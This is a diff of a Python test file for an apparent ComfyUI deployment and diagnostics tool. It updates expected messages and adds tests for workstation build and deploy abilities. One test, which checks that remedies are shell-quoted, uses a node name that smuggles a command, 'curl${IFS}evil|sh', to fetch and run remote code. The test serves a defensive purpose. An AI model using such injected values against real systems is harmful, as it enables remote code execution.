@@ -3,16 +3,19 @@
 from __future__ import annotations
 
 import dataclasses
+import sys
 from datetime import UTC, datetime
+from pathlib import Path
 
 import msgspec
 import pytest
 
-from core.errors import ConnectError, NoInstallationError
+from core.errors import ConnectError, HearthError, NoInstallationError
 from deploy.facts import Facts
 from deploy.survey import Installation, Survey
-from ops import doctor, status
+from ops import doctor, status, workstation
 from ops.checks import CHECKS, Case, Probe
+from ops.doctor import Finding
 from ops.fleet import Answer
 from ops.gpu import Gpu
 from ops.mps import Mps
@@ -60,14 +63,14 @@ def test_torch_is_asked_when_comfyui_does_not_answer() -> None:
 def test_a_gpu_of_another_kind_than_the_kernels_are_for() -> None:
     other = msgspec.structs.replace(settled().gpus[0], capability="8.9", unified=False)
     case = seen(msgspec.structs.replace(settled(), gpus=(other,)))
-    assert "was built for 12.1, and the GPU is 8.9" in found(case)["kernels"]
+    assert "was built for 12.1, but the GPU is 8.9" in found(case)["kernels"]
 
 
 @pytest.mark.parametrize(
     ("live", "what"),
     [
-        (msgspec.structs.replace(WELL, uptime=5, comfyui=ComfyUI("closed")), "ComfyUI is starting, since 5 s"),
-        (msgspec.structs.replace(WELL, comfyui=ComfyUI("closed")), "ComfyUI is not reached"),
+        (msgspec.structs.replace(WELL, uptime=5, comfyui=ComfyUI("closed")), "ComfyUI has been starting for 5 s"),
+        (msgspec.structs.replace(WELL, comfyui=ComfyUI("closed")), "ComfyUI accepts no connections"),
         (msgspec.structs.replace(WELL, comfyui=ComfyUI("silent", "timed out")), "does not answer: timed out"),
     ],
 )
@@ -82,7 +85,7 @@ def test_a_gpu_that_is_shared_on_purpose_is_none_to_warn_of() -> None:
         {**sample("h200")["gpus"][0], "processes": [{**PROCESS, "bytes": None, "kind": "compute"}]}, Gpu
     )
     case = seen(live=msgspec.structs.replace(WELL, gpus=(gpu,)))
-    assert found(case)["gpu-shared"].startswith("GPU 0 is used by others: python3.12 main.py (pid 4242")
+    assert found(case)["gpu-shared"].startswith("other processes use GPU 0: python3.12 main.py (pid 4242")
     shared = dataclasses.replace(case, target=spark(modes=("shared-gpu",)))
     through_mps = dataclasses.replace(case, probe=msgspec.structs.replace(PROBE, mps=Mps(True, state="active")))
     assert "gpu-shared" not in found(shared) | found(through_mps)
@@ -121,7 +124,7 @@ def test_the_tables_of_status_are_100_columns_wide_at_most() -> None:
     )
     well = status.Status(widest, facts, live, tuple(widest), ())
     answers = [Answer(widest, well), Answer(widest, None, ConnectError(f"{widest} cannot be reached"))]
-    services, machines, _ = "\n".join(status._lines(answers)).split("\n\n")
+    services, machines, _ = "\n".join(status.rows(answers)).split("\n\n")
     assert all(len(line) <= 100 for line in f"{services}\n{machines}".splitlines())
     assert "serves  " in services
     assert "reverted, 100 d" in services
@@ -130,35 +133,57 @@ def test_the_tables_of_status_are_100_columns_wide_at_most() -> None:
     assert machines.splitlines()[2].endswith("100.0 GB  9000.0 GB")
 
 
-GUIDES = {  # the rows of both guides' chapters on troubleshooting, in the words of their headings
-    "Spark guide": (
-        "sageattention", "GPU architecture", "build tools", "service won't start", "port 8188", "Python import errors",
-        "permission errors", "NFS symlinks", "virtual environment", "PyTorch wrong version", "GPU not detected",
-    ),
-    "Debian guide": (
-        "CUDA out of memory", "GPU not detected in container", "performance degradation", "memory fragmentation",
-        "context conflicts", "driver instability", "system resource exhaustion", "port conflicts",
-    ),
-}  # fmt: skip
-
-
-@pytest.mark.parametrize(("guide", "row"), [(guide, row) for guide, rows in GUIDES.items() for row in rows])
-def test_every_row_of_the_guides_has_a_check(guide: str, row: str) -> None:
-    cases = [case for check in CHECKS for case in check.cases]
-    assert any(case.startswith(f"{guide}: ") and row.lower() in case.lower() for case in cases)
-
-
 def test_the_page_is_todays() -> None:
     """Written anew with: python -m ops.doctor."""
     assert doctor.PAGE.read_text() == doctor.page()
     assert len({check.name for check in CHECKS}) == len(CHECKS)
 
 
-def test_this_machine_is_looked_at_for_builds(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_machine_without_programs_can_do_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("core.shell.which", lambda _: None)
-    told = {each.what for each in doctor.workbench()}
-    assert {"git is not installed", "uv is not installed"} <= told
-    assert any("there is no C++ compiler" in what or "no aarch64" in what for what in told), told
+    deploys, builds = workstation.look().abilities
+    assert deploys == "deploy: no: git and uv and ssh not installed"
+    assert builds.startswith(
+        "local builds: no: git is not installed; uv is not installed; use inv build-kernels --host"
+    )
+    whats = {each.what for each in doctor.this_machine() if each.severity == "error"}
+    assert {"git is not installed", "uv is not installed", "ssh is not installed"} <= whats
+    assert doctor.code(doctor.this_machine()) == 2
+
+
+def test_a_mac_deploys_to_hosts_and_builds_on_them(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    monkeypatch.setattr(sys, "platform", "darwin")
+    monkeypatch.setenv("HEARTH_WHEELHOUSE", str(tmp_path))
+    monkeypatch.setattr("core.shell.which", lambda name: f"/usr/bin/{name}")
+    assert workstation.look() == workstation.Seen(
+        (
+            "deploy: yes, to other hosts; ComfyUI itself runs on Linux",
+            "local builds: no: kernels are built on Linux; use inv build-kernels --host NAME",
+        ),
+        (),
+    )
+    assert doctor.code(doctor.this_machine()) == 0
+    monkeypatch.setattr("core.shell.which", lambda name: None if name == "uv" else name)
+    ((severity, problem),) = workstation.look().problems
+    assert (severity, problem.remedy) == ("error", "brew install uv")
+
+
+def test_builds_that_lack_a_compiler_for_some_archs() -> None:
+    error = HearthError("there is no arm64 compiler")
+    assert workstation._builds({"8.9": [], "12.1": []}, []) == "yes, for 8.9, 12.1"
+    assert workstation._builds({"8.9": [], "12.1": [error]}, []) == (
+        "yes, for 8.9; not for the others: there is no arm64 compiler; use inv build-kernels --host NAME"
+    )
+    assert workstation._builds({"12.1": [error]}, []).startswith("no: there is no arm64 compiler; use inv")
+
+
+def test_every_problem_is_followed_by_its_fix() -> None:
+    found = [Finding("box", "abilities", "info", "deploy: yes", ""), Finding("box", "disk", "warning", "full", "rm x")]
+    assert list(doctor.rows(["box", "other"], found)) == [
+        "box: 0 errors, 1 warnings", "  deploy: yes", "  warning: full  [disk]", "    fix: rm x",
+        "other: no problems found",
+    ]  # fmt: skip
+    assert (doctor.code(found), doctor.code(found[:1])) == (1, 0)
 
 
 def test_memory_in_pieces_names_the_mode_that_may_help() -> None:
@@ -166,14 +191,14 @@ def test_memory_in_pieces_names_the_mode_that_may_help() -> None:
     (told,) = doctor.judge(seen(probe=msgspec.structs.replace(PROBE, log=((NOW, line),))))
     assert told.check == "out-of-memory"
     assert 'modes = ["low-memory"]' in told.remedy
-    assert '5.10 GiB are in pieces too small to use: modes = ["native-allocator"]' in told.remedy
+    assert '5.10 GiB is fragmented: modes = ["native-allocator"]' in told.remedy
 
 
 def test_what_others_name_is_quoted_in_commands() -> None:
     name = "a;curl${IFS}evil|sh #"
     case = seen(msgspec.structs.replace(settled(), failed_nodes={name: "x"}))
     (node,) = [each for each in doctor.judge(case) if each.check == "nodes"]
-    assert node.remedy.startswith(f"inv nodes.update '{name}'; ")
+    assert node.remedy.startswith(f"inv nodes.update --name '{name}'; ")
     found = [
         Installation(path, "", "", "", None, "", "", "", {}, "", (), (), (), (), False) for path in ("/a; b", "/c")
     ]
